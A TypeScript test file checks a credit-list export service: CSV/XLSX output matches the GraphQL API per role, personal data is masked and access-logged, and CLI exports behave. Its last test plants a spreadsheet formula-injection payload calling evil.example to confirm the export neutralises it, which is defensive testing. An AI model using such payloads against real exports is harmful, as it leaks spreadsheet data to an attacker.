/**
 * Exports (GET /export/<department>.csv|.xlsx and /export/platform/… at the gateway): for every
 * role at every export — each department's lists (customs included) and the platform's
 * consolidated (each list type) and warning lists, CSV and XLSX, with and without a stated
 * purpose — the file holds exactly what the GraphQL query gives that caller (the same rows,
 * masked the same way, or the same refusal), no entry the policy does not show it (against the
 * departments' own tables), unmasked personal data only for a role that may read it with a
 * purpose, and every unmasked value read is in the access register under that caller.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mintDevelopmentToken } from '../scripts/token.js';
import { organisationCode, random } from '../scripts/demo-data.js';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { callerHeaders, startTestHub, type TestHub } from './env.js';
import type { TokenClaims } from '../scripts/token.js';
import { CONSOLIDATED_COLUMNS, CONSOLIDATED_SELECTION, ENTRY_COLUMNS, ENTRY_SELECTION, WARNING_LIST_COLUMNS, WARNING_LIST_SELECTION, type ExportColumn } from '../gateway/export/columns.js';
import { departments } from '../subgraphs/catalog.js';
import { entryVisibility, isVisible, mayReadPersonalData } from '../subgraphs/kit/auth/policy.js';
import { everyRole, principalOf, registeredUnder } from './roles.js';

const PURPOSE = { purpose: '授信前尽职调查', reference: 'SX-2026-0077' };
const CALLERS = everyRole('export');
const calling = (name: string) => CALLERS.find(([caller]) => caller === name)![1];

/** The caller under an id of its own for one export: its register records are that export's alone. */
const asExporter = (claims: TokenClaims | null, door: string, purpose?: unknown): TokenClaims | null =>
  claims && { ...claims, sub: `${claims.sub}@${door}${purpose ? '+p' : ''}` };

const isMasked = (value: string) => value.includes('*');

let hub: TestHub;
const exportUrl = (path: string) => new URL(path, hub.url).toString();

/** Every page of courtsEntries for a caller, as rows of the export's columns. */
async function apiRows(claims: TokenClaims | null, purpose?: typeof PURPOSE, department = departments.find((d) => d.name === 'courts')!): Promise<string[][]> {
  const rows: string[][] = [];
  const field = department.entriesQuery;
  let after: string | null = null;
  for (;;) {
    const { data, errors }: { data?: any; errors?: unknown[] } = await hub.queryAs(
      claims,
      `query($after: String) { ${field}(first: 100, after: $after) { edges { node { ${ENTRY_SELECTION} } } pageInfo { hasNextPage endCursor } } }`,
      { after },
      purpose,
    );
    expect(errors).toBeUndefined();
    for (const { node } of data[field].edges) rows.push(ENTRY_COLUMNS.map((c) => String(c.value(node) ?? '')));
    if (!data[field].pageInfo.hasNextPage) return rows;
    after = data[field].pageInfo.endCursor;
  }
}

async function exportCsv(claims: TokenClaims | null, purpose?: typeof PURPOSE, query = '', path = '/export/courts.csv') {
  const response = await fetch(exportUrl(`${path}${query}`), { headers: await callerHeaders(claims, purpose) });
  const text = await response.text();
  return { response, text, rows: response.ok ? (parse(text, { bom: true }) as string[][]) : [] };
}

/** An XLSX export's rows (header first) as text, the columns of the export. */
async function exportXlsx(claims: TokenClaims | null, purpose: typeof PURPOSE | undefined, path: string, columns: ExportColumn[]) {
  const response = await fetch(exportUrl(path), { headers: await callerHeaders(claims, purpose) });
  if (!response.ok) return { response, rows: [] as string[][], body: await response.json() };
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as any);
  const rows: string[][] = [];
  workbook.worksheets[0].eachRow((row) => {
    rows.push(columns.map((_, i) => String(row.getCell(i + 1).value ?? '')));
  });
  return { response, rows, body: null };
}

/**
 * The persons whose data a department export's rows hold unmasked, each under the code the
 * register files it under: a natural person's own code (their code and name), a legal
 * representative's own document number (the number, and the name on an unpublished list).
 */
function unmaskedPersons(header: string[], rows: string[][]): string[] {
  const at = (row: string[], column: string) => row[header.indexOf(column)];
  const persons: string[] = [];
  for (const row of rows) {
    if (at(row, 'subjectType') === 'NATURAL_PERSON' && (!isMasked(at(row, 'creditCode')) || !isMasked(at(row, 'subjectName')))) persons.push(at(row, 'creditCode'));
    const number = at(row, 'legalRepresentativeIdNumber');
    const repName = at(row, 'legalRepresentativeName');
    if (number && !isMasked(number)) persons.push(number);
    if (at(row, 'published') === 'false' && repName && !isMasked(repName)) persons.push(number || at(row, 'creditCode'));
  }
  return persons;
}

/** Every department's entries as its own tables hold them, by department: the ground truth the policy is applied to. */
async function entriesInTables(): Promise<Map<string, { id: string; status: string; listType: string; published: boolean }[]>> {
  const byDepartment = new Map();
  for (const department of departments) {
    const rows = await hub.hub.subgraphs.get(department.name)!.db(`${department.name}_entries`).select('id', 'status', 'list_type', 'published');
    byDepartment.set(department.name, rows.map((row: any) => ({ id: row.id, status: row.status, listType: row.list_type, published: Boolean(row.published) })));
  }
  return byDepartment;
}

/** The HTTP status an export answers a refusal with, by the API's error code. */
const STATUS_OF = { FORBIDDEN: 403, UNAUTHENTICATED: 401, BAD_USER_INPUT: 400 } as Record<string, number>;

const ACCESS_REGISTER = `query($code: ID) { accessRegister(filter: { subjectCode: $code }, first: 100) { edges { node { principalId fields } } } }`;

beforeAll(async () => {
  // Small pages, so that every export below crosses many of them (and the read-ahead).
  process.env.EXPORT_PAGE_SIZE = '7';
  hub = await startTestHub({ subjects: 300 });
  await hub.hub.settle();
});
afterAll(async () => {
  delete process.env.EXPORT_PAGE_SIZE;
  await hub?.stop();
});

describe('GET /export/<department>.csv|.xlsx: every role at every department\'s export', () => {
  let tables: Awaited<ReturnType<typeof entriesInTables>>;
  beforeAll(async () => {
    tables = await entriesInTables();
  });
  const unmaskedSeen = new Map<string, number>();

  for (const department of departments) {
    for (const [name, claims] of CALLERS) {
      for (const purpose of [undefined, PURPOSE]) {
        it(`${department.name}: gives the ${name} ${purpose ? 'with' : 'without'} a purpose exactly what the API gives, in CSV and XLSX, registering what it reads unmasked`, async () => {
          const exporter = asExporter(claims, department.name, purpose);
          const principal = principalOf(exporter);
          const { response, rows } = await exportCsv(exporter, purpose, '', `/export/${department.name}.csv`);
          expect(response.status).toBe(200);
          expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
          const [header, ...body] = rows;
          expect(header).toEqual(ENTRY_COLUMNS.map((c) => c.name));
          expect(body).toEqual(await apiRows(claims, purpose, department));

          // The policy, applied to the department's own table: the file holds every entry it shows the caller, and no other.
          const visibility = entryVisibility(principal, department.name);
          const expected = tables.get(department.name)!.filter((entry) => isVisible(entry, visibility)).map((entry) => entry.id);
          expect(body.map((row) => row[0]).sort()).toEqual(expected.sort());

          // Personal data: unmasked only to a role that may read it with a purpose, and then every such read registered under the caller.
          const allowed = mayReadPersonalData(principal, purpose ?? null);
          const persons = unmaskedPersons(header, body);
          const registered = exporter ? await registeredUnder(hub, exporter.sub!) : new Set<string>();
          if (allowed) {
            expect(response.headers.get('x-credithub-personal-data')).toBeNull();
            expect(persons.filter((person) => !registered.has(person))).toEqual([]);
            unmaskedSeen.set(department.name, (unmaskedSeen.get(department.name) ?? 0) + persons.length);
          } else {
            expect(response.headers.get('x-credithub-personal-data')).toMatch(/^masked; /);
            expect(persons).toEqual([]);
            expect([...registered]).toEqual([]);
          }

          const xlsx = await exportXlsx(exporter, purpose, `/export/${department.name}.xlsx`, ENTRY_COLUMNS);
          expect(xlsx.response.status).toBe(200);
          expect(xlsx.rows).toEqual(rows);
        });
      }
    }
    it(`${department.name}: the walk above saw personal data unmasked (it checked something)`, () => {
      expect(unmaskedSeen.get(department.name)).toBeGreaterThan(0);
    });
  }
});

describe('GET /export/<department>.csv', () => {
  it('holds unmasked natural persons only for a role that may read them with a purpose, and registers each read', async () => {
    const admin = CALLERS.find(([name]) => name === 'admin')![1];
    const { rows } = await exportCsv(admin, PURPOSE);
    const [header, ...body] = rows;
    const person = body.find((row) => row[header.indexOf('subjectType')] === 'NATURAL_PERSON')!;
    const code = person[header.indexOf('creditCode')];
    expect(code).toMatch(/^\d{17}[\dX]$/);
    const { data } = await hub.query(ACCESS_REGISTER, { code });
    expect(data.accessRegister.edges.map((e: any) => e.node.principalId)).toContain('admin-export');

    const masked = (await exportCsv(admin)).rows.slice(1).find((row) => row[0] === person[0])!;
    expect(masked[header.indexOf('creditCode')]).toMatch(/^\d{4}\*{10}[\dX]{4}$/);
    expect(masked[header.indexOf('subjectName')]).toMatch(/^.\*+$/);
  });

  it('filters like the entries query, and refuses what the caller may not see with its status', async () => {
    const partner = CALLERS.find(([name]) => name === 'red-only partner')![1];
    const refused = await exportCsv(partner, undefined, '?listType=BLACK');
    expect(refused.response.status).toBe(403);
    expect(JSON.parse(refused.text).errors[0].extensions.code).toBe('FORBIDDEN');

    const black = await exportCsv(null, undefined, '?listType=BLACK&status=ACTIVE');
    expect(black.rows.length).toBeGreaterThan(1);
    expect(new Set(black.rows.slice(1).map((row) => row[3]))).toEqual(new Set(['BLACK']));

    const unknown = await exportCsv(null, undefined, '?colour=red');
    expect(unknown.response.status).toBe(400);
    expect(JSON.parse(unknown.text).errors[0].message).toMatch(/unknown parameter "colour"/);

    const badToken = await fetch(exportUrl('/export/courts.csv'), { headers: { authorization: 'Bearer nonsense' } });
    expect(badToken.status).toBe(401);
    expect((await badToken.json()).errors[0].extensions.code).toBe('UNAUTHENTICATED');

    const post = await fetch(exportUrl('/export/courts.csv'), { method: 'POST' });
    expect(post.status).toBe(405);
  });

  it('refuses a filter value the API would refuse, naming it', async () => {
    const colour = await exportCsv(null, undefined, '?listType=PURPLE');
    expect(colour.response.status).toBe(400);
    const error = JSON.parse(colour.text).errors[0];
    expect(error.extensions.code).toBe('BAD_USER_INPUT');
    expect(error.message).toMatch(/^filter\.listTypes(\[0\])?: .*PURPLE/);
    const region = await exportCsv(null, undefined, '?regionCode=44x');
    expect(region.response.status).toBe(400);
    expect(JSON.parse(region.text).errors[0].message).toMatch(/"44x" is not an administrative division code/);
  });

  it('gives the change feed\'s cursor at snapshot time: following the feed from it misses no later change', async () => {
    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-feed' };
    const { response, rows } = await exportCsv(courts);
    const cursor = response.headers.get('x-credithub-feed-cursor')!;
    expect(cursor).toBeTruthy();
    const exported = new Set(rows.slice(1).map((row) => row[0]));

    // A change after the snapshot: not in the file, but in the feed after its cursor.
    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
      input: {
        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(5151), '440300'), subjectName: '某贸易有限公司', facts: '拒不履行',
        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-快照',
      },
    });
    expect(recognised.errors).toBeUndefined();
    const id = recognised.data.courts.recognise.id;
    expect(exported.has(id)).toBe(false);
    await hub.hub.settle();
    const FEED = `query($after: String) { changes(after: $after, first: 500, filter: { domains: [COURTS] }) { edges { cursor node { entryId type } } pageInfo { hasNextPage } } }`;
    const since = await hub.queryAs(courts, FEED, { after: cursor });
    expect(since.errors).toBeUndefined();
    expect(since.data.changes.edges.map((e: any) => e.node.entryId)).toContain(id);

    // Up to the cursor: the feed holds nothing the snapshot lacks (every entry it names is in the file).
    const positionOf = (c: string) => JSON.parse(Buffer.from(c, 'base64url').toString('utf8'))[1] as number;
    const all = await hub.queryAs(courts, FEED, { after: null });
    expect(all.data.changes.pageInfo.hasNextPage).toBe(false);
    const upTo = all.data.changes.edges.filter((e: any) => positionOf(e.cursor) <= positionOf(cursor) && e.node.type !== 'ENTRY_PURGED');
    expect(upTo.length).toBeGreaterThan(0);
    expect(upTo.filter((e: any) => !exported.has(e.node.entryId))).toEqual([]);
  });

});

describe('GET /export/platform/…', () => {
  const CONSOLIDATED = `query($filter: ConsolidatedListFilter, $after: String) { consolidatedList(filter: $filter, first: 100, after: $after) {
    edges { node { ${CONSOLIDATED_SELECTION} } } pageInfo { hasNextPage endCursor } } }`;
  const WARNING_LIST = `query($after: String) { warningList(first: 100, after: $after) { edges { node { ${WARNING_LIST_SELECTION} } } pageInfo { hasNextPage endCursor } } }`;

  async function listRows(claims: TokenClaims | null, query: string, field: string, columns: typeof ENTRY_COLUMNS, filter?: unknown, purpose?: typeof PURPOSE) {
    const rows: string[][] = [];
    let after: string | null = null;
    for (;;) {
      const { data, errors }: { data?: any; errors?: unknown[] } = await hub.queryAs(claims, query, { filter, after }, purpose);
      expect(errors).toBeUndefined();
      for (const { node } of data[field].edges) rows.push(columns.map((c) => String(c.value(node) ?? '')));
      if (!data[field].pageInfo.hasNextPage) return rows;
      after = data[field].pageInfo.endCursor;
    }
  }

  const auditor = calling('auditor');
  const DOORS = [
    ...(['BLACK', 'RED', 'KEY_ATTENTION'] as const).map((listType) => ({
      name: `consolidated ${listType}`, path: 'consolidated', query: `?listType=${listType}`, field: 'consolidatedList', gql: CONSOLIDATED,
      columns: CONSOLIDATED_COLUMNS, filter: { listType } as Record<string, unknown> | undefined, listType: listType as string | undefined,
    })),
    { name: 'warning list', path: 'warning-list', query: '', field: 'warningList', gql: WARNING_LIST, columns: WARNING_LIST_COLUMNS, filter: undefined, listType: undefined },
  ];

  /** Every page as the API gives it to the caller, or its refusal. */
  async function apiAnswer(claims: TokenClaims | null, door: (typeof DOORS)[number], purpose?: typeof PURPOSE): Promise<{ rows: string[][]; code?: string }> {
    const rows: string[][] = [];
    let after: string | null = null;
    for (;;) {
      const { data, errors }: { data?: any; errors?: any[] } = await hub.queryAs(claims, door.gql, { filter: door.filter, after }, purpose);
      if (errors?.length) return { rows, code: errors[0].extensions?.code };
      for (const { node } of data[door.field].edges) rows.push(door.columns.map((c) => String(c.value(node) ?? '')));
      if (!data[door.field].pageInfo.hasNextPage) return { rows };
      after = data[door.field].pageInfo.endCursor;
    }
  }

  /** Per list type: each credit code with an active entry of it, and the domains of those entries (the departments' own tables). */
  async function activeDomains(listType: string): Promise<{ byCode: Map<string, Set<string>>; persons: Set<string> }> {
    const byCode = new Map<string, Set<string>>();
    const persons = new Set<string>();
    for (const department of departments) {
      const rows = await hub.hub.subgraphs.get(department.name)!.db(`${department.name}_entries`).where({ status: 'ACTIVE', list_type: listType }).select('credit_code', 'subject_type');
      for (const row of rows) {
        byCode.set(row.credit_code, (byCode.get(row.credit_code) ?? new Set()).add(department.domain));
        if (row.subject_type === 'NATURAL_PERSON') persons.add(row.credit_code);
      }
    }
    return { byCode, persons };
  }

  for (const door of DOORS) {
    for (const [name, claims] of CALLERS) {
      for (const purpose of [undefined, PURPOSE]) {
        it(`${door.name}: gives the ${name} ${purpose ? 'with' : 'without'} a purpose what the API gives, in CSV and XLSX, natural persons only with the right and a purpose, each registered`, async () => {
          const exporter = asExporter(claims, door.path, purpose);
          const principal = principalOf(exporter);
          const api = await apiAnswer(claims, door, purpose);
          const csv = await exportCsv(exporter, purpose, door.query, `/export/platform/${door.path}.csv`);
          const xlsx = await exportXlsx(exporter, purpose, `/export/platform/${door.path}.xlsx${door.query}`, door.columns);
          if (api.code) {
            // Refused as the API refuses it, with its status.
            expect(csv.response.status).toBe(STATUS_OF[api.code]);
            expect(JSON.parse(csv.text).errors[0].extensions.code).toBe(api.code);
            expect(xlsx.response.status).toBe(STATUS_OF[api.code]);
            expect(xlsx.body.errors[0].extensions.code).toBe(api.code);
            return;
          }
          expect(csv.response.status).toBe(200);
          expect(csv.response.headers.get('x-credithub-feed-cursor')).toBeTruthy();
          const [header, ...body] = csv.rows;
          expect(header).toEqual(door.columns.map((c) => c.name));
          expect(body).toEqual(api.rows);
          expect(xlsx.response.status).toBe(200);
          expect(xlsx.rows).toEqual(csv.rows);

          const at = (row: string[], column: string) => row[header.indexOf(column)];
          const persons = body.filter((row) => at(row, 'subjectType') === 'NATURAL_PERSON');
          const registered = exporter ? await registeredUnder(hub, exporter.sub!) : new Set<string>();
          if (mayReadPersonalData(principal, purpose ?? null)) {
            for (const row of persons) expect(registered.has(at(row, 'creditCode')), at(row, 'creditCode')).toBe(true);
          } else {
            expect(persons.map((row) => at(row, 'creditCode'))).toEqual([]);
            expect([...registered]).toEqual([]);
            expect(csv.response.headers.get('x-credithub-personal-data')).toMatch(/^masked; /);
          }

          if (door.listType) {
            // Against the departments' tables: each member has active entries of the list type in the domains it is shown with.
            const { byCode: truth, persons: naturalPersons } = await activeDomains(door.listType);
            for (const row of body) {
              const domains = at(row, 'domains').split(' ');
              expect(domains.every((domain) => truth.get(at(row, 'creditCode'))?.has(domain)), at(row, 'creditCode')).toBe(true);
            }
            if (body.length > 0) {
              // Complete: every subject on such a list (natural persons only where they may be read) is in the file.
              const shown = new Set(body.map((row) => at(row, 'creditCode')));
              const organisations = [...truth.keys()].filter((code) => !naturalPersons.has(code));
              expect(organisations.filter((code) => !shown.has(code))).toEqual([]);
            }
          }
        });
      }
    }
  }

  it('gives the warning list as warningList does, and refuses what consolidatedList refuses', async () => {
    const response = await fetch(exportUrl('/export/platform/warning-list.csv'), { headers: await callerHeaders(auditor, PURPOSE) });
    expect(response.status).toBe(200);
    const [header, ...body] = parse(await response.text(), { bom: true }) as string[][];
    expect(header).toEqual(WARNING_LIST_COLUMNS.map((c) => c.name));
    expect(body).toEqual(await listRows(auditor, WARNING_LIST, 'warningList', WARNING_LIST_COLUMNS, undefined, PURPOSE));

    const redOnly = CALLERS.find(([name]) => name === 'red-only partner')![1];
    const refused = await fetch(exportUrl('/export/platform/consolidated.csv?listType=BLACK'), { headers: await callerHeaders(redOnly) });
    expect(refused.status).toBe(403);
    expect((await refused.json()).errors[0].extensions.code).toBe('FORBIDDEN');
    const badNumber = await fetch(exportUrl('/export/platform/consolidated.csv?minDomains=two'), { headers: await callerHeaders(auditor) });
    expect(badNumber.status).toBe(400);
    expect((await badNumber.json()).errors[0].message).toMatch(/"minDomains" must be a whole number/);
  });
});

describe('npm run export', () => {
  const partner = () => CALLERS.find(([name]) => name === 'partner')![1]!;
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'credithub-export-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  /** The CLI as the partner, in a process of its own. */
  const cli = async (args: string[]) =>
    promisify(execFile)(process.execPath, ['--import', 'tsx', 'scripts/export/main.ts', ...args, '--url', hub.url], {
      env: { ...process.env, CREDITHUB_TOKEN: await mintDevelopmentToken(partner()) },
    });

  it('writes the file the endpoint serves for the caller, masked alike', { timeout: 60_000 }, async () => {
    const out = join(dir, 'courts.csv');
    const { stdout } = await cli(['--department', 'courts', '--out', out, '--status', 'ACTIVE']);
    expect(stdout).toMatch(/courts\.csv written \(personal data masked; /);
    expect(existsSync(`${out}.part`)).toBe(false);
    const served = await exportCsv(partner(), undefined, '?status=ACTIVE');
    expect(parse(readFileSync(out), { bom: true })).toEqual(served.rows);
  });

  it('writes the platform\'s consolidated list as the endpoint serves it, and says where to follow the feed from', { timeout: 60_000 }, async () => {
    const out = join(dir, 'consolidated.csv');
    const { stdout } = await cli(['--platform', 'consolidated', '--list-type', 'BLACK', '--out', out]);
    expect(stdout).toMatch(/consolidated\.csv written/);
    expect(stdout).toMatch(/follow the change feed from: changes\(after: "[A-Za-z0-9_-]+"\)/);
    const served = await fetch(exportUrl('/export/platform/consolidated.csv?listType=BLACK'), { headers: await callerHeaders(partner()) });
    expect(parse(readFileSync(out), { bom: true })).toEqual(parse(await served.text(), { bom: true }));

    const wrong = await cli(['--platform', 'warning-list', '--status', 'ACTIVE', '--out', out]).catch((error) => error);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toMatch(/^Cannot export: --status is for a department's lists/);
  });
});

// Last: the entry it records would differ between the CSV (escaped) and the XLSX (a string cell) above.
describe('CSV and formulas', () => {
  it('writes a recorded formula as text, so a spreadsheet does not run it', async () => {
    const courts: TokenClaims = { role: 'officer', department: 'courts', sub: 'officer-export-formula' };
    const formula = '=HYPERLINK("http://evil.example/?"&F3,"详情")';
    const recognised = await hub.queryAs(courts, `mutation($input: RecogniseInput!) { courts { recognise(input: $input) { id } } }`, {
      input: {
        listKind: 'DISHONEST_JUDGMENT_DEBTOR', creditCode: organisationCode(random(4242), '440300'), subjectName: formula, facts: '+1+1',
        validUntil: '2030-01-01', repair: { repairable: true, method: '履行义务', rectificationDeadline: '2029-01-01' }, externalReference: '（2026）粤0304执-公式',
      },
    });
    expect(recognised.errors).toBeUndefined();
    const { text } = await exportCsv(courts);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&F3,""详情"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
